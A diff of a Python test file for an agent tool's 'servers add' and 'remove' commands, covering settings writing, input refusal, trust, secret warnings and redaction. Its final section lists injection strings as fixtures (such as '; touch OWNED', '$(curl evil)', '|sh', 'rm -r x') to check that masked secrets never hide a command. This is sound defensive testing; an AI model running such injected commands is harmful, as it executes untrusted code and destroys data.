@@ -1,4 +1,4 @@
-"""`xai-mcp-agent servers add` and `remove`: a server is written as it was typed, and tried once."""
+"""`servers add` and `remove`: a server is written as it was typed, and tried once."""
 
 from __future__ import annotations
 
@@ -9,12 +9,18 @@ from typing import Any
 
 import pytest
 
-from tests.cli.test_servers import SERVERS, command
+from tests.support.commands import SERVERS, Cli, Ran
 from tests.support.warm_python import warm_python
+from xai_mcp_agent.canvas.trust import shown_text
+from xai_mcp_agent.core.visible import escaped
+from xai_mcp_agent.secrets.redactor import redact_args
+from xai_mcp_agent.secrets.secrets import Secrets
 from xai_mcp_agent.settings.load import load_settings
 from xai_mcp_agent.settings.trust import TrustStore
 
 UNITS = str(SERVERS / "units.py")
+KEY = "ghp_0123456789abcdefghijABCDEFGHIJ012345"
+UNKNOWN = "--no-check -- some-server"
 MINE = """\
 {
   // mine
@@ -27,17 +33,12 @@ MINE = """\
 
 
 @pytest.fixture
-def file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+def file(folder: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
     """Settings of a person whom nothing makes trust more than they agreed to."""
-    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
     monkeypatch.delenv("XAI_MCP_TRUST", raising=False)
-    file = tmp_path / "mcp_settings.json"
+    file = folder / "mcp_settings.json"
     file.write_text(MINE)
     return file
-
-
-def add(capsys: Any, file: Path, *words: str) -> tuple[int, str, str]:
-    return command(capsys, "servers", "add", "--settings", str(file), *words)
 
 
 def entry(file: Path, name: str) -> Any:
@@ -46,114 +47,183 @@ def entry(file: Path, name: str) -> Any:
     return json5.loads(file.read_text())["mcpServers"][name]
 
 
-def test_a_command_is_written_tried_and_its_tools_are_shown(file: Path, capsys: Any) -> None:
-    status, out, err = add(capsys, file, "units", "--", warm_python(), UNITS)
+def unchanged(ran: Ran, file: Path, status: int, *texts: str) -> bool:
+    """Whether a command failed with this status and these texts, and wrote nothing."""
+    assert (ran.status, file.read_text()) == (status, MINE)
+    return all(x in ran.text for x in texts)
+
+
+def test_a_command_is_written_tried_and_its_tools_are_shown(file: Path, cli: Cli) -> None:
+    status, out, err = cli("servers add units --", warm_python(), UNITS)
     assert (status, err) == (0, "")
-    assert "has 2 tools:" in out
-    assert "convert_units(" in out
+    assert all(x in out for x in ("has 2 tools:", "convert_units("))
     assert entry(file, "units") == {"command": warm_python(), "args": [UNITS]}
     assert all(x in file.read_text() for x in ("// mine", "// the first", "/* no more */"))
-
-
-def test_what_was_typed_is_trusted_and_nothing_else(file: Path, capsys: Any) -> None:
-    add(capsys, file, "new", "--no-check", "--", "some-server", "--flag")
     waiting = TrustStore().untrusted_parts(load_settings(file))
-    assert [x.source for x in waiting] == ["old"]
+    assert [x.source for x in waiting] == ["old"], "what was typed is trusted, nothing else"
 
 
-def test_a_server_that_cannot_start_is_written_with_its_last_words(file: Path, capsys: Any) -> None:
+def test_a_server_that_cannot_start_is_written_with_its_last_words(file: Path, cli: Cli) -> None:
     crash = "import sys; print('no licence', file=sys.stderr); sys.exit(3)"
-    status, _, err = add(capsys, file, "bad", "--", sys.executable, "-c", crash)
-    assert status == 1
-    assert "no licence" in err
-    assert "xai-mcp-agent servers remove bad" in err
+    ran = cli("servers add bad --", sys.executable, "-c", crash)
+    assert ran.status == 1
+    assert "no licence" in ran.err
+    assert "xai-mcp-agent servers remove bad" in ran.err
     assert entry(file, "bad")["args"] == ["-c", crash]
+    ran = cli("servers add it -e NOT_SET_ANYWHERE -- no-such-program")
+    assert (ran.status, "set NOT_SET_ANYWHERE in the environment" in ran.err) == (1, True)
 
 
-def test_an_entry_is_replaced_only_when_that_is_reported(file: Path, capsys: Any) -> None:
-    status, _, err = add(capsys, file, "old", "--no-check", "--", "y")
-    assert (status, file.read_text()) == (1, MINE)
-    assert "--replace" in err
-    assert add(capsys, file, "old", "--no-check", "--replace", "--", "y")[0] == 0
+def test_an_entry_is_replaced_only_when_that_is_said(file: Path, cli: Cli) -> None:
+    assert unchanged(cli("servers add old --no-check -- y"), file, 1, "--replace")
+    assert cli("servers add old --no-check --replace -- y").status == 0
     assert entry(file, "old") == {"command": "y"}
     assert file.with_name("mcp_settings.json.bak").read_text() == MINE
 
 
 @pytest.mark.parametrize(
-    ("words", "told"),
+    ("words", "text"),
     [
-        (["htp://example.org/mcp"], "Write it with http:// or https://"),
-        (["htp:/example.org/mcp"], "Write it with http:// or https://"),
-        (["https:example.org"], "Write it with http:// or https://"),
-        (["https://example.org/mcp", "more"], "A URL stands alone"),
-        (["-e", "TOKEN=x", "https://example.org/mcp"], "--env is of no use for a URL"),
-        (["--cwd", "/", "https://example.org/mcp"], "--cwd is of no use for a URL"),
-        (["-H", "A: hush", "--", "some-server"], "--header is of no use for a command"),
+        ("htp://example.org/mcp", "Write it with http:// or https://"),
+        ("htp:/example.org/mcp", "Write it with http:// or https://"),
+        ("https:example.org", "Write it with http:// or https://"),
+        ("https://example.org/mcp more", "A URL stands alone"),
+        ("-e TOKEN=x https://example.org/mcp", "--env is of no use for a URL"),
+        ("--cwd / https://example.org/mcp", "--cwd is of no use for a URL"),
+        ("-H 'A: hush' -- some-server", "--header is of no use for a command"),
+        ("npx -y server", "Put -- before a command"),
+        ("docker run -e A=b image", "Put -- before a command"),
+        ("-- ''", ""),
+        ("-- srv \udcff", "no text in UTF-8"),
+        ("--cwd \udcff -- srv", "no text in UTF-8"),
     ],
 )
 def test_what_cannot_work_is_refused_and_not_written(
-    file: Path, capsys: Any, words: list[str], told: str
+    file: Path, cli: Cli, words: str, text: str
 ) -> None:
-    status, out, err = add(capsys, file, "new", "--no-check", *words)
-    assert (status, out, file.read_text()) == (2, "", MINE)
-    assert told in err
-    assert "hush" not in err
+    ran = cli(f"servers add new --no-check {words}")
+    assert unchanged(ran, file, 2, text)
+    assert (ran.out, "hush" in ran.err) == ("", False)
 
 
-def test_a_url_takes_headers_and_a_transport_as_other_clients_do(file: Path, capsys: Any) -> None:
-    words = ("notion", "https://example.org/mcp", "-t", "http", "-H", "X-Team: red", "--no-check")
-    assert add(capsys, file, *words)[0] == 0
+@pytest.mark.parametrize("name", ["a/b", "a\nb", "a\x1b[31mb", "canvas"])
+def test_a_name_that_could_not_be_given_again_is_refused(file: Path, cli: Cli, name: str) -> None:
+    ran = cli("servers add", name, "--no-check", "--", "some-server")
+    assert unchanged(ran, file, 2, "cannot be a server's name")
+
+
+def test_a_url_takes_headers_and_a_transport_as_other_clients_do(file: Path, cli: Cli) -> None:
+    line = "servers add notion https://example.org/mcp -t http -H 'X-Team: red' --no-check"
+    assert cli(line).status == 0
     assert entry(file, "notion") == {
         "type": "http", "url": "https://example.org/mcp", "headers": {"X-Team": "red"},
     }  # fmt: skip
 
 
 def test_a_variable_that_is_passed_on_is_a_reference_and_a_plain_secret_is_warned_about(
-    file: Path, capsys: Any
+    file: Path, cli: Cli
 ) -> None:
-    words = ("-e", "API_TOKEN", "-e", "OTHER_SECRET=hush-hush-1234", "-e", "LEVEL=3")
-    _, out, err = add(capsys, file, "it", *words, "--no-check", "--", "some-server")
+    words = "-e API_TOKEN -e OTHER_SECRET=hush-hush-1234 -e LEVEL=3"
+    ran = cli(f"servers add it {words} {UNKNOWN}")
     assert entry(file, "it")["env"] == {
         "API_TOKEN": "${API_TOKEN}", "OTHER_SECRET": "hush-hush-1234", "LEVEL": "3",
     }  # fmt: skip
-    assert "the variable OTHER_SECRET looks like a secret" in " ".join(err.split())
-    assert "API_TOKEN looks" not in err
-    assert "hush-hush" not in out + err
+    assert "the variable OTHER_SECRET looks like a secret" in ran.text
+    assert "API_TOKEN looks" not in ran.text
+    assert "hush-hush" not in ran.text
 
 
-def test_what_is_not_set_yet_is_named_and_nothing_is_started(file: Path, capsys: Any) -> None:
-    status, _, err = add(capsys, file, "it", "-e", "NOT_SET_ANYWHERE", "--", "no-such-program")
-    assert status == 1
-    assert "set NOT_SET_ANYWHERE in the environment" in err
-
-
-@pytest.mark.parametrize(
-    "words",
-    [("gh", "npx", "-y", "server"), ("gh", "docker", "run", "-e", "A=b", "image")],
-    ids=["unknown", "ours"],
-)
-def test_options_of_a_command_are_never_taken_for_ours(
-    file: Path, capsys: Any, words: tuple[str, ...]
+def test_a_file_with_a_key_in_it_is_private_or_who_can_read_it_is_said(
+    folder: Path, cli: Cli
 ) -> None:
-    status, _, err = add(capsys, file, *words)
-    assert (status, file.read_text()) == (2, MINE)
-    assert "Put -- before a command" in " ".join(err.replace("│", " ").split())
+    file = folder / "new" / "mcp_settings.json"
+    add = f"servers add it --settings {file} -e GITHUB_TOKEN={KEY}"
+    assert cli(f"{add} {UNKNOWN}").status == 0
+    assert file.stat().st_mode & 0o077 == 0
+    file.chmod(0o644)
+    assert f"chmod 600 {file}" in cli(f"{add} --replace {UNKNOWN}").text
+    file.chmod(0o600)
+    assert "chmod" not in cli(f"{add} --replace {UNKNOWN}").text
+    file.write_text('// c\n{"x": NaN, "mcpServers": {}}')
+    ran = cli(f"{add} {UNKNOWN}")
+    assert (ran.status, KEY in ran.text) == (1, False), "what cannot be written is not shown"
 
 
-def test_a_file_is_made_where_there_is_none(tmp_path: Path, capsys: Any) -> None:
-    file = tmp_path / "new" / "mcp_settings.json"
-    assert add(capsys, file, "it", "--no-check", "--", "x")[0] == 0
-    assert json.loads(file.read_text()) == {"mcpServers": {"it": {"command": "x"}}}
-
-
-def test_a_removed_server_is_gone_and_everything_else_stays(file: Path, capsys: Any) -> None:
-    add(capsys, file, "new", "--no-check", "--", "y")
-    assert command(capsys, "servers", "remove", "new", "--settings", str(file))[0] == 0
+def test_a_removed_server_is_gone_and_everything_else_stays(file: Path, cli: Cli) -> None:
+    assert unchanged(cli("servers remove odl"), file, 1, "Did you mean 'old'?")
+    cli("servers add new --no-check -- y")
+    assert cli("servers remove new").status == 0
     assert file.read_text() == MINE.replace("}, // the first", "} // the first")
     assert not TrustStore().files()
 
 
-def test_a_slip_in_the_name_removes_nothing(file: Path, capsys: Any) -> None:
-    status, _, err = command(capsys, "servers", "remove", "odl", "--settings", str(file))
-    assert (status, file.read_text()) == (1, MINE)
-    assert "Did you mean 'old'?" in err
+@pytest.mark.parametrize(
+    ("beside", "texts"),
+    [
+        ({"functions": {"it": {"file": "evil.py"}}},
+         ("functions.it", "xai-mcp-agent servers remove it")),
+        ({"groups": {"it": {"tools": ["a/b"]}}}, ("a group of this name",)),
+    ],
+)  # fmt: skip
+def test_a_source_of_another_kind_and_a_group_are_not_replaced_and_not_trusted(
+    file: Path, cli: Cli, beside: dict[str, Any], texts: tuple[str, ...]
+) -> None:
+    file.write_text(json.dumps({"mcpServers": {}, **beside}), encoding="utf-8")
+    before = file.read_bytes()
+    ran = cli(f"servers add it --replace {UNKNOWN}")
+    assert (ran.status, file.read_bytes()) == (1, before)
+    assert all(x in ran.text for x in texts)
+
+
+def test_a_file_of_a_subfolder_is_written_as_the_folder_of_the_settings_reaches_it(
+    folder: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (folder / "sub").mkdir()
+    (folder / "sub/clock.py").write_text("")
+    monkeypatch.chdir(folder / "sub")
+    file = folder / "mcp_settings.json"
+    assert cli(f"servers add clock --settings {file} --no-check clock.py").status == 0
+    assert entry(file, "clock")["args"] == [str(folder / "sub/clock.py")]
+
+
+# What is shown of an entry before somebody agrees to it
+
+SCRIPTS = {
+    "API_TOKEN=abcdefgh1; touch OWNED": "API_TOKEN=***; touch OWNED",
+    "API_TOKEN=abcdefgh1 touch OWNED": "API_TOKEN=*** touch OWNED",
+    "API_TOKEN=abcdefgh1|sh": "API_TOKEN=***|sh",
+    "API_TOKEN=$(curl evil)": "API_TOKEN=$(curl evil)",
+    "API_TOKEN=abcdefgh1$(curl evil)": "API_TOKEN=***$(curl evil)",
+    "curl http://e/?key=abcdefgh1;touch OWNED": "curl http://e/?key=***;touch OWNED",
+    "curl http://e/?key=abcdefgh1&touch${IFS}OWNED": "curl http://e/?key=***&touch${IFS}OWNED",
+    "curl http://e/?key=abcdefgh1&b=2|sh": "curl http://e/?key=***&b=***|sh",
+    "curl http://e/?key=abcdefgh1$(rm x)": "curl http://e/?key=***$(rm x)",
+    "http://u:abcdefgh1;touch${IFS}x;@e/": "http://***@e/ (*** has ; in it)",
+    "TOKEN=abcdefgh1\nrm -r x": "TOKEN=***\nrm -r x",
+    "API_TOKEN=./evil.sh ./evil.sh": "API_TOKEN=*** ./evil.sh",
+    "API_TOKEN=token ./evil.sh": "API_TOKEN=*** ./evil.sh",
+    "TOKEN='abcdefgh1' KEY=hgfedcba2 && rm": "TOKEN='***' KEY=*** && rm",
+}
+
+
+def test_a_command_behind_a_secret_is_shown(folder: Path) -> None:
+    """Nobody agrees to what they cannot see: neither in `discover` nor before a run."""
+    file = folder / "mcp_settings.json"
+
+    def shown(entry: dict[str, Any]) -> str:
+        file.write_text(json.dumps({"it": entry}))
+        loaded = load_settings(file)
+        text = shown_text(loaded, loaded.parts)
+        assert "abcdefgh1" not in text
+        return text
+
+    for script, expected in SCRIPTS.items():
+        assert redact_args(["-c", script], Secrets())[1] == expected
+        text = shown({"command": "sh", "args": ["-c", script]})
+        assert escaped(expected.rpartition("***")[2]) in text
+    own = {"command": "sh", "args": ["./evil.sh"], "env": {"API_TOKEN": "./evil.sh"}}
+    assert shown(own).split("\n") == [
+        "  it:", "      starts sh ./evil.sh", "      gets the environment variable API_TOKEN: ***",
+    ]  # fmt: skip
+    later = {"url": "https://e.org/mcp?key=abcdefgh1&x=${NOT_SET_YET}"}
+    assert "https://e.org/mcp?key=***" in shown(later)
